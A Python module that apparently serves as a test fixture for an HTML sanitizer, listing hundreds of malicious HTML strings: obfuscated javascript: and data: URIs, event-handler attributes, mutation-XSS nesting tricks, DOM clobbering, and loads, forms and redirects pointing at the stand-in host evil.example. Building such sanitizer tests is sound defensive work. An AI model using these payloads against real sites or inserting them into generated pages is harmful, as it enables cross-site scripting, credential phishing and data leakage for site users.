"""HTML that nobody should ever be shown, in the disguises that browsers have fallen for."""

_SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\r\nscript:alert(1)",
    "java\x00script:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "jav&#13;ascript:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "&#0000106avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "java script:alert(1)",
    "javascript :alert(1)",
    "javascript\u2028:alert(1)",
    "\u202ejavascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://evil.example/1",
    "filesystem:http://evil.example/1",
    "file:///etc/passwd",
    "ftp://evil.example/x",
    "ws://evil.example/",
    "about:blank",
    "chrome://settings",
    "intent://x#Intent;scheme=http;end",
    "//evil.example/",
    "\\\\evil.example\\",
    "/\\evil.example/",
    "/\t/evil.example/",
    "\\/evil.example",
    "http:",
    "https:///",
    "javascript://example.org/%0aalert(1)",
    "https:javascript:alert(1)\x00",
]

_EVENTS = [
    *("onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onbegin"),
    *("onanimationstart", "ontransitionend", "onpointerrawupdate", "onbeforeinput", "onwheel"),
    *("ONCLICK", "oNcLiCk", "on\x00click", "onclick\t", "xonclick", "on-click", "formaction"),
]

_TAGS = '''
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/x>alert(1)</script >
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script\x0c>alert(1)</script>
</script><script>alert(1)</script>
<script>alert(1)
<style>*{background:url(//evil.example/x)}</style>
<style>@import '//evil.example/x.css';</style>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=prefetch href=//evil.example/>
<meta http-equiv=refresh content="0;url=//evil.example/">
<base href=//evil.example/>
<iframe src=//evil.example/></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<frameset><frame src=javascript:alert(1)></frameset>
<object data=//evil.example/x.swf></object>
<embed src=//evil.example/x.swf>
<applet code=x></applet>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><style><img title="</style><img src=x onerror=alert(1)>">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><p><style><g title="</style><img src onerror=alert(1)>">
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<plaintext><script>alert(1)</script>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<select><option><style></option></select><img src=x onerror=alert(1)></style>
<details open ontoggle=alert(1)>x</details>
<video src=//evil.example/x><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<video poster=//evil.example/x></video>
<img src=x onerror=alert(1)>
<img src=//evil.example/pixel.gif>
<img src=https://evil.example/pixel.gif alt="">
<img srcset="//evil.example/x 1x">
<img src=/media/pictures/../../admin/logout/>
<img src=/admin/logout/>
<img src="/media/pictures/00000000-0000-4000-8000-000000000000/x.png?x">
<img src="/media/pictures/00000000-0000-4000-8000-000000000000/../x.png">
<img src="https://evil.example/media/pictures/00000000-0000-4000-8000-000000000000/x.png">
<img lowsrc=//evil.example/x dynsrc=//evil.example/y longdesc=//evil.example/z>
<input type=image src=//evil.example/x>
<input autofocus onfocus=alert(1)>
<button formaction=javascript:alert(1)>x</button>
<form action=//evil.example/><input name=password><button>Sign in</button></form>
<isindex action=javascript:alert(1)>
<body onload=alert(1) background=//evil.example/x>
<table background=//evil.example/x><td background=//evil.example/y>x</table>
<div style="background:url(//evil.example/x)">x</div>
<p style="position:fixed;inset:0">cover</p>
<p style=expression(alert(1))>x</p>
<marquee onstart=alert(1)>x</marquee>
<bgsound src=//evil.example/x>
<layer src=//evil.example/x></layer>
<dialog open>x</dialog>
<portal src=//evil.example/></portal>
<a href=/ target=_blank onclick=alert(1)>x</a>
<a href=/ ping=//evil.example/>x</a>
<a href=/ download=x.exe>x</a>
<a name=getElementById>x</a>
<p id=body name=createElement class="admin" data-x=1 contenteditable is=x slot=y>x</p>
<img name=cookie><form id=documentElement></form>
<p><!-- <img src=x onerror=alert(1)> -->x</p>
<!--[if IE]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<![if !supportLists]><img src=x onerror=alert(1)><![endif]>
<![x[<img src=x onerror=alert(1)>]]>
<![ if x]><img src=x onerror=alert(1)>
<![1<script>alert(1)</script>
<?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE html [<!ENTITY x "<script>">]><p>&x;</p>
<!--><img src=x onerror=alert(1)>-->
<!--a--!><img src=x onerror=alert(1)>
<img src="x` `<script>alert(1)</script>"` `>
<img """><script>alert(1)</script>">
<a href="x"onclick="alert(1)">x</a>
<p title='"><img src=x onerror=alert(1)>'>x</p>
<a title="</a><script>alert(1)</script>" href="/x">x</a>
<abbr title="<img src=x onerror=alert(1)>">x</abbr>
<ol start="1 onclick=alert(1)"><li value=9>x</li></ol>
<td colspan="9999999999" rowspan=-1 headers=x>x</td>
<th scope="javascript:alert(1)">x</th>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;
<p>\u202etxet\u202c</p>
<p>a\x00b\x08c\x7fd\ufffe</p>
<p>&#0;&#x202e;&#xFFFE;&#x1F;</p>
<a href="/x">one<a href="javascript:alert(1)">two</a></a>
<table><tr><td><a href="javascript:alert(1)"><table><tr><td>x</td></tr></table></a></td></tr></table>
<p><a href="javascript:x"><strong>x</a></strong></p>
<h1 onclick=alert(1)>x</h1>
<b/onclick=alert(1)>x</b>
<div><p>x<div><script>alert(1)</script></div></div>
<o:p style="mso-x:y">x</o:p>
<ruby><rp><script>alert(1)</script></rp></ruby>
<keygen autofocus onfocus=alert(1)>
<img src=x:alert(1) onerror=eval(src)>
<x onclick=alert(1)>x</x>
<custom-element onclick=alert(1)>x</custom-element>
<a href="/x" href="javascript:alert(1)">x</a>
<A HREF='JAVASCRIPT:alert(1)'>x</A>
'''.strip().splitlines()

HTML = [
    *_TAGS,
    *(f'<a href="{address}">x</a>' for address in _SCHEMES),
    *(f"<a href='{address}'>x</a>" for address in _SCHEMES),
    *(f'<img src="{address}" alt="x">' for address in _SCHEMES),
    *(f'<p {event}="alert(1)">x</p>' for event in _EVENTS),
    *(f'<a href="/x" {event}=alert(1)>x</a>' for event in _EVENTS),
]
